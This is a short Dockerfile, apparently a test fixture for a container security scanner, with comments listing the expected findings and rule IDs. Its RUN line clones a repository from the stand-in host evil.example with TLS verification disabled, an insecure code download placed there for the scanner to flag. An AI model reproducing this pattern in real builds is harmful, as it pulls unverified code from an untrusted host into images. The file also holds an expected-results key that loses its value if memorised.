FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN git -c http.sslVerify=false clone https://evil.example/r.git /r
USER app
# expect: download 2 high "TLS checks off"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-adb9f19b2e VR501-e064bac1a6
